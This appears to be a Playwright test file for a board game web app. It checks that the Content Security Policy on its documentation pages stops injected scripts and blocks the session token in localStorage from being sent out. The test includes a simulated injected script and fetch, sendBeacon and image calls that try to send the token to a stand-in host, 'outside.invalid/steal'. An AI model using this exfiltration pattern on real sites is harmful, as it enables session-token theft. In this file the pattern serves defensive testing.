"""What the browser's storage gives a page script (docs/fairness.md, "Hidden values"): the
board keeps its bearer token in `localStorage`, and the token shows its holder's hand. Every
page of the origin can read that storage, the documentation's pages too, so on every one of
them a script that was not shipped (an injected one) must not run, and no script may send
anything to another origin."""

from __future__ import annotations

from typing import Any

import pytest

OUTSIDE = "http://outside.invalid/steal"


@pytest.mark.parametrize(
    ("path", "drawn"),
    [("/docs", "text=Create a guest"), ("/docs/swagger", ".opblock-summary-path >> text=/guests")],
)
def test_a_script_injected_into_the_docs_cannot_run_or_send_the_token_out(
    page: Any, board_url: str, path: str, drawn: str
) -> None:
    page.goto(board_url + "/#/lobby")
    page.get_by_label("Play as a guest").fill("Wren")
    page.get_by_role("button", name="Play as guest").click()
    page.get_by_role("heading", name="Lobby").wait_for()
    refused: list[str] = []
    page.on("console", lambda m: refused.append(m.text) if "Content Security" in m.text else None)
    # What left the page: a request Chromium sent (an unresolvable host fails with a DNS
    # error); one the policy stopped fails as blocked, before any byte is sent.
    asked: list[str] = []
    page.on("requestfailed", lambda r: asked.append(f"{r.url} {r.failure}"))
    page.on("requestfinished", lambda r: asked.append(r.url))

    page.goto(board_url + path)
    page.locator(drawn).first.wait_for()  # the page still draws under its policy
    assert refused == [], refused  # and nothing of its own was refused
    assert page.evaluate("() => localStorage.length") > 0  # the token is there, same origin

    # An injected inline script (what a cross-site scripting hole would run) does not run...
    page.evaluate(
        """() => {
            const s = document.createElement("script");
            s.textContent = "window.__stolen = localStorage.getItem('swarm.board.session')";
            document.body.appendChild(s);
        }"""
    )
    assert page.evaluate("() => window.__stolen === undefined")
    # ...and a script that does run cannot send anything out: fetch, beacon or image.
    sent = page.evaluate(
        """async (url) => {
            const token = localStorage.getItem('swarm.board.session');
            let fetched = "refused";
            try { await fetch(url + "?t=" + token, {mode: "no-cors"}); fetched = "sent"; }
            catch (e) {}
            navigator.sendBeacon(url, token);
            const img = new Image(); img.src = url + "?img=" + token;
            await new Promise(r => setTimeout(r, 300));
            return fetched;
        }""",
        OUTSIDE,
    )
    assert sent == "refused"
    outside = [a for a in asked if "outside.invalid" in a]
    assert outside and all(a.endswith(" csp") for a in outside), outside  # blocked, unsent
    assert any("connect-src" in r or "img-src" in r for r in refused)
